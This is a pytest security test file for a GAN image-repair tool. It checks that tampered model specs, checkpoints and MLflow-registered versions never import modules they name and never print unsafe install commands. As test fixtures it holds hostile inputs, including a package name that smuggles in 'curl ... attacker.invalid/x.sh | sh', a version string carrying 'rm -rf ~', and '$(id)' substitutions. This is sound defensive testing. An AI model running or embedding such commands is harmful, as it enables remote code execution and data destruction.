"""A model file is data (issue 24, findings 1 and 2): nothing read from a model's spec.json,
a run's checkpoint or a registered version imports a module it names, and nothing it
records is printed as a command to paste. Each module a test plants writes a marker when
imported, so "not imported" is seen, not assumed."""

from __future__ import annotations

import json
import shutil
import sys
from pathlib import Path

import numpy as np
import pytest
from PIL import Image

from gan_dist.core.errors import GanDistError
from gan_dist.repair.model_file import initial_weights, load_model
from support import hole, make_model, run_cli, train_quickstart

ZEN = "Beautiful is better than ugly"


@pytest.fixture()
def planted(tmp_path, monkeypatch) -> tuple[str, Path]:
    """A module on sys.path that leaves a file behind if anything imports it, and that
    file's path. Its attribute is a real gan-dist Family, so only the import rule stops it."""
    marker = tmp_path / "imported"
    name = f"planted_{tmp_path.name.replace('-', '_')}"
    (tmp_path / f"{name}.py").write_text(
        "from pathlib import Path\n"
        f"Path({str(marker)!r}).write_text('ran')\n"
        "from gan_dist.config.catalogue import GENERATORS, DISCRIMINATORS, OBJECTIVES\n"
        "generator, discriminator, objective = GENERATORS['unet'], "
        "DISCRIMINATORS['patchgan'], OBJECTIVES['hinge']\n"
    )
    monkeypatch.syspath_prepend(str(tmp_path))
    yield name, marker
    sys.modules.pop(name, None)


def tamper(path: Path, edit) -> None:
    doc = json.loads(path.read_text())
    edit(doc)
    path.write_text(json.dumps(doc))


SPEC_EDITS = {
    "families.generator.name": lambda d, ref: d["families"]["generator"].update(name=ref),
    "families.discriminator.name": lambda d, ref: d["families"]["discriminator"].update(name=ref),
    "model.generator.name": lambda d, ref: d["model"]["generator"].update(name=ref),
    "model.discriminator.name": lambda d, ref: d["model"]["discriminator"].update(name=ref),
}


@pytest.mark.parametrize("field", SPEC_EDITS)
def test_a_spec_naming_a_module_is_refused_without_importing_it(field, planted, tmp_path):
    name, marker = planted
    folder = make_model(tmp_path / "model")
    kind = "discriminator" if "discriminator" in field else "generator"
    tamper(folder / "spec.json", lambda d: SPEC_EDITS[field](d, f"{name}:{kind}"))
    for load in (lambda: load_model(str(folder)), lambda: initial_weights(str(folder))):
        with pytest.raises(GanDistError, match="is a module reference, and a model file may") as e:
            load()
        assert "[(" not in str(e.value), str(e.value)  # a list of tuples, as printed
    assert not marker.exists(), f"{field}: the module a spec named was imported"
    assert name not in sys.modules


@pytest.mark.integration
@pytest.mark.parametrize("reference", ["this:x", "mlflow.__main__:cli", "tifffile.__main__:main"])
def test_repair_with_a_tampered_spec_runs_nothing(reference, tmp_path):
    """The issue's instances, through the command a user runs: the Zen of Python was
    printed, and the MLflow CLI ran on repair's arguments."""
    folder = make_model(tmp_path / "model")
    tamper(folder / "spec.json", lambda d: SPEC_EDITS["families.generator.name"](d, reference))
    Image.fromarray(np.full((32, 32, 3), 90, np.uint8)).save(tmp_path / "in.png")
    Image.fromarray(hole(32, 32).astype(np.uint8) * 255).save(tmp_path / "mask.png")
    result = run_cli(
        "repair", str(tmp_path / "in.png"), str(tmp_path / "out.png"),
        "--model", str(folder), "--mask", str(tmp_path / "mask.png"),
    )  # fmt: skip
    assert result.returncode == 1, result.stdout + result.stderr
    assert ZEN not in result.stdout + result.stderr
    assert "Usage: mlflow" not in result.stdout + result.stderr
    assert f"'{reference}' is a module reference" in result.stderr
    assert not (tmp_path / "out.png").exists()


def test_a_reference_that_an_installed_entry_point_declares_still_loads(toy_plugin, tmp_path):
    """The one module reference a saved model may name: an installed package's own entry
    point (a recipe may name a plugin either way)."""
    from safetensors.torch import save_file

    from gan_dist.config.recipe import load_recipe
    from gan_dist.nets.build import build_generator
    from gan_dist.repair.model_file import spec_for

    reference = "gan_dist_toy:generator"
    recipe = load_recipe(
        "quickstart",
        ["data.image_size=32", f"model.generator.name={reference}", "model.generator.width=4"],
    )
    folder = tmp_path / "model"
    folder.mkdir()
    save_file(
        build_generator(recipe.model, 3, 32).state_dict(), str(folder / "weights.safetensors")
    )
    (folder / "spec.json").write_text(json.dumps(spec_for(recipe, 0, {})))
    assert load_model(str(folder)).spec["model"]["generator"]["name"] == reference


INJECTED = "torch-nets' ; curl -s http://attacker.invalid/x.sh | sh ; echo '"


@pytest.mark.parametrize(
    ("package", "version"),
    [
        (INJECTED, "1.0"),  # the instance
        ("ghost-nets", "1.0' ; rm -rf ~ ; echo '"),  # the version instead
        ("ghost-nets\n$(id)", "1.0"),  # a line break and a substitution
        ("ghost nets", "1.0"),  # not a PEP 508 name
        (["ghost-nets"], "1.0"),  # not text at all
        ("ghost-nets", 1.0),
    ],
)
def test_a_recorded_package_that_is_not_a_valid_name_is_never_printed_as_a_command(
    package, version, tmp_path
):
    folder = make_model(tmp_path / "model")

    def edit(doc):
        doc["model"]["generator"]["name"] = "ghost_net"
        doc["families"]["generator"] = {"name": "ghost_net", "package": package, "version": version}

    tamper(folder / "spec.json", edit)
    with pytest.raises(GanDistError) as caught:
        load_model(str(folder))
    text = str(caught.value)
    assert "pip install" not in text and "curl" not in text and "rm -rf" not in text, text
    assert "\n" not in text
    assert "names an invalid package" in text


def test_a_valid_recorded_package_still_gets_its_install_command(tmp_path):
    folder = make_model(tmp_path / "model")

    def edit(doc):
        doc["model"]["generator"]["name"] = "ghost_net"
        doc["families"]["generator"] = {
            "name": "ghost_net",
            "package": "Ghost.Nets",
            "version": "v1.2",
        }

    tamper(folder / "spec.json", edit)
    with pytest.raises(GanDistError, match=r"pip install 'Ghost.Nets==1.2'"):
        load_model(str(folder))


def test_a_name_with_control_characters_is_shown_escaped(tmp_path):
    folder = make_model(tmp_path / "model")
    tamper(
        folder / "spec.json",
        lambda d: d["model"]["generator"].update(name="net\x1b[2J\nERROR: fine"),
    )
    with pytest.raises(GanDistError) as caught:
        load_model(str(folder))
    assert "\x1b" not in str(caught.value) and "\n" not in str(caught.value)


@pytest.mark.integration
def test_a_checkpoint_naming_a_module_is_refused_everywhere_it_is_read(planted, packed, tmp_path):
    """A run folder's checkpoint: repair, export (models register), model.init and eval
    read its recipe; none imports the module its generator, discriminator or objective
    names."""
    from gan_dist.repair.model_file import export_checkpoint
    from gan_dist.repair.publish import register
    from gan_dist.run import checkpoint

    name, marker = planted
    run_dir = tmp_path / "run"
    done = train_quickstart(packed, 1, run_dir)
    assert done.returncode == 0, done.stderr
    [original] = checkpoint.list_checkpoints(run_dir)
    edits = {
        "generator": lambda r: r["model"]["generator"].update(name=f"{name}:generator"),
        "discriminator": lambda r: r["model"]["discriminator"].update(name=f"{name}:discriminator"),
        "objective": lambda r: r["objective"].update(adversarial=f"{name}:objective"),
    }
    for part, edit in edits.items():
        ckpt = shutil.copytree(original, tmp_path / part / "checkpoints" / original.name)
        tamper(ckpt / "state.json", lambda s, edit=edit: edit(s["recipe"]))
        for load in (
            lambda ckpt=ckpt: load_model(str(ckpt)),
            lambda ckpt=ckpt: initial_weights(str(ckpt.parent.parent)),
            lambda ckpt=ckpt: export_checkpoint(ckpt, tmp_path / "exported"),
            lambda ckpt=ckpt: register(ckpt, "tampered", f"sqlite:///{tmp_path / 'r.db'}"),
        ):
            with pytest.raises(GanDistError, match="is a module reference"):
                load()
        assert not marker.exists(), f"{part}: the module a checkpoint named was imported"
    # a family that is not installed (a plugin since uninstalled): one line, no traceback
    gone = shutil.copytree(original, tmp_path / "gone" / "checkpoints" / original.name)
    tamper(gone / "state.json", lambda s: s["recipe"]["model"]["generator"].update(name="gone"))
    registered = run_cli("models", "register", str(gone), "--name", "gone")
    assert registered.returncode == 1, registered.stderr
    assert "Traceback" not in registered.stderr
    assert "model.generator.name: 'gone' is not a generator" in registered.stderr


@pytest.mark.integration
def test_a_tampered_registered_version_runs_nothing_through_mlflow_either(
    demo, planted, tmp_path, mlflow_store
):
    """`mlflow.pyfunc.load_model` (what `mlflow models serve` runs) and `gan-dist repair
    --model models:/...` on a registered version whose stored spec.json was altered."""
    import mlflow
    from mlflow import MlflowClient

    name, marker = planted
    assert demo[0].returncode == 0, demo[0].stderr
    [run_dir] = (demo[1] / "runs").iterdir()
    registered = run_cli("models", "register", str(run_dir), "--name", "tampered")
    assert registered.returncode == 0, registered.stderr
    [version] = MlflowClient(mlflow_store).search_model_versions("name='tampered'")
    # the stored files themselves (the test store keeps artifacts on local disk)
    stored = Path(mlflow.artifacts.download_artifacts(version.source, tracking_uri=mlflow_store))
    where = MlflowClient(mlflow_store).get_model_version_download_uri("tampered", version.version)
    stored = Path(where.removeprefix("file://")) if where.startswith("file://") else stored
    specs = list(stored.rglob("spec.json"))
    assert specs, f"no spec.json under {stored}"
    for spec in specs:
        tamper(spec, lambda d: SPEC_EDITS["families.generator.name"](d, f"{name}:generator"))
    uri = f"models:/tampered/{version.version}"
    with pytest.raises(Exception, match="is a module reference"):
        mlflow.pyfunc.load_model(uri)
    with pytest.raises(GanDistError, match="is a module reference"):
        load_model(uri, tracking_uri=mlflow_store)
    assert not marker.exists()


def test_a_spec_whose_two_records_of_a_net_disagree_is_refused(tmp_path):
    """families.generator named toy_resnet while model.generator was unet: loaded as unet
    without a word, and the version's tags would name the other (hostile pass)."""
    folder = make_model(tmp_path / "model")
    tamper(folder / "spec.json", lambda d: d["families"]["generator"].update(name="resnet"))
    with pytest.raises(GanDistError, match="inconsistent: families.generator names 'resnet', "):
        load_model(str(folder))


@pytest.mark.parametrize(
    "families",
    [{"generator": {"name": 5}}, {"generator": "unet"}, ["unet"], {"discriminator": None}],
)
def test_a_spec_whose_families_are_not_records_is_refused(families, tmp_path):
    """`families.generator.name: 5` was skipped, and the consistency check with it (hostile
    pass 2)."""
    folder = make_model(tmp_path / "model")
    tamper(folder / "spec.json", lambda d: d.update(families=families))
    with pytest.raises(GanDistError, match="its families are not records of nets"):
        load_model(str(folder))
